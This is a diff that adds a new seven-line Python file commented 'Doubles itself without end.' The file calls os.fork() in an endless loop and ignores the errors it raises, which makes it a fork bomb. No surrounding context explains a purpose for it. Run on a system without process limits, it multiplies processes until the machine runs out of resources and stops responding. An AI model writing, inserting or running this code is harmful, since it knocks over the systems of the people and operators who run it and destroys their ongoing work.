@@ -1,0 +1,7 @@
+# Doubles itself without end.
+import os
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
